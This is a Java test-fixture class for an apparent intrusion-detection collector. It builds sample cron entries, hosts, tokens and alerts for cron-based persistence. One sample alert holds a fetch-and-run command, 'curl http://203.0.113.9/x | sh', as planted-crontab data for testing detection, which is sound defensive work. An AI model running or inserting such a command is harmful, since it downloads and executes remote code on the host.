package bzh.vigie.collector.store;

import bzh.vigie.event.Account;
import bzh.vigie.event.Event.LocationRead;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.LocationStatus;
import bzh.vigie.event.Moment;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.Sha256;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;

/** Plausible things to store. */
public final class Specimens {
    public static final Instant START = Instant.parse("2026-03-02T08:00:00Z");
    public static final Commune CONCARNEAU = new Commune("29039");
    public static final Commune AURAY = new Commune("56007");
    public static final Author ANALYST = new Author("Nolwenn", "seen with the mayor's office");

    private Specimens() {}

    public static AgentId agent(int number) {
        return new AgentId(new UUID(0x0190_0000_0000_7000L, 0x8000_0000_0000_0000L + number).toString());
    }

    public static Instant minute(long number) {
        return START.plusSeconds(60 * number);
    }

    public static Moment moment(long minute) {
        return new Moment(minute(minute), "boot-1", minute * 60_000_000L);
    }

    /** A line of a crontab; without an account one of the machine. */
    public static Item item(String location, Optional<Account> account, String name, String value, long modified) {
        return item(location, account, name, value, modified, "cron", Item.Shipped.AS_PACKAGED);
    }

    /** A line of a crontab of the machine that no package has. */
    public static Item planted(String location, String name, String value) {
        return item(location, Optional.empty(), name, value, 0, "", Item.Shipped.UNOWNED);
    }

    private static Item item(
            String location,
            Optional<Account> account,
            String name,
            String value,
            long modified,
            String packageName,
            Item.Shipped shipped) {
        return new Item(
                location,
                List.of("T1053.003"),
                "linux",
                account,
                name,
                value,
                "/etc/cron.d/" + name,
                "/usr/bin/" + value,
                Optional.of(Sha256.over(value.getBytes(StandardCharsets.UTF_8))),
                "",
                Item.Signature.NOT_CHECKED,
                packageName,
                shipped,
                true,
                modified == 0 ? ItemTimes.NONE : ItemTimes.modified(modified),
                List.of(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of());
    }

    /** The same found there. */
    public static Item from(String source, Item plain) {
        return new Item(
                plain.location(),
                plain.techniques(),
                plain.os(),
                plain.account(),
                plain.name(),
                plain.value(),
                source,
                plain.target(),
                plain.sha256(),
                plain.signer(),
                plain.signature(),
                plain.packageName(),
                plain.shipped(),
                plain.enabled(),
                plain.times(),
                plain.resolved(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of());
    }

    public static LocationRead read(
            String location, Optional<Account> account, LocationStatus.State state, long reading, boolean listing) {
        return new LocationRead(
                moment(reading),
                "linux.persistence",
                new LocationStatus(
                        location,
                        account,
                        state,
                        ReasonCode.NONE,
                        "",
                        "live",
                        3,
                        120,
                        moment(reading).wallMicros(),
                        1_500,
                        LocationStatus.Trigger.PASS,
                        1,
                        Optional.of(new LocationStatus.AsShipped(
                                7, Sha256.over(location.getBytes(StandardCharsets.UTF_8))))),
                reading,
                listing,
                Sha256.over(Long.toString(reading).getBytes(StandardCharsets.UTF_8)));
    }

    public static Hosts.Host host(int number, Commune commune) {
        return new Hosts.Host(
                agent(number),
                commune,
                "pc-" + number,
                Hosts.State.ACTIVE,
                Sha256.over(("key " + number).getBytes(StandardCharsets.UTF_8)),
                "{\"os\":\"Debian\"}",
                "0.1.0",
                START,
                minute(30 * 24 * 60),
                Optional.empty(),
                0,
                "",
                "",
                false);
    }

    /** A host of that name, enrolled in the beginning. */
    public static Hosts.Host host(int number, Commune commune, String name, String facts) {
        Hosts.Host plain = host(number, commune);
        return new Hosts.Host(
                plain.id(),
                commune,
                name,
                plain.state(),
                plain.publicKey(),
                facts,
                plain.version(),
                START,
                plain.certificateExpires(),
                plain.lastSeen(),
                0,
                plain.bootId(),
                plain.runId(),
                plain.connected());
    }

    public static Tokens.Token token(String id, Commune commune, int uses) {
        return new Tokens.Token(
                id,
                Sha256.over(id.getBytes(StandardCharsets.UTF_8)),
                commune,
                uses,
                0,
                START,
                minute(60),
                false,
                false);
    }

    public static Alerts.Alert alert(String id, Commune commune, int host, String cause, long minute) {
        return new Alerts.Alert(
                id,
                "vigie-item-added",
                Alerts.Severity.HIGH,
                List.of("T1053.003"),
                commune,
                agent(host),
                "pc-" + host,
                cause,
                id + "-event",
                minute(minute),
                minute(minute).minusSeconds(3),
                Map.of("name", "backup", "value", "curl http://203.0.113.9/x | sh"),
                Alerts.Status.NEW,
                1,
                minute(minute));
    }

    /** A possible recurrence of no incident that is there; all on one line. */
    public static Alerts.Alert recurrence(String id, Commune commune, int host) {
        Alerts.Alert like = alert(id, commune, host, "return", host);
        return new Alerts.Alert(
                id,
                "vigie-return",
                Alerts.Severity.CRITICAL,
                List.of(),
                commune,
                like.host(),
                like.hostname(),
                like.cause(),
                like.firstEvent(),
                like.time(),
                like.hostTime(),
                Map.of("key", "the same"),
                Alerts.Status.NEW,
                1,
                like.lastTime());
    }

    /** A line of a day in calm. */
    public static Alerts.Alert ofDay(String id, Commune commune, long minute) {
        Alerts.Alert like = alert(id, commune, 1, "day|" + id, minute);
        return new Alerts.Alert(
                id,
                "vigie-ordinary-items",
                Alerts.Severity.LOW,
                List.of(),
                commune,
                like.host(),
                like.hostname(),
                like.cause(),
                like.firstEvent(),
                like.time(),
                like.hostTime(),
                Map.of("day", minute(minute).toString().substring(0, 10)),
                Alerts.Status.NEW,
                1,
                like.lastTime());
    }

    /** One thing of such a line. */
    public static Alerts.Listed listed(String name, int host) {
        return new Alerts.Listed(
                "vigie-item-added",
                "added",
                "shape of " + name,
                "windows.service",
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\" + name,
                name,
                agent(host),
                "pc-" + host,
                name + "-event",
                minute(1),
                1);
    }
}
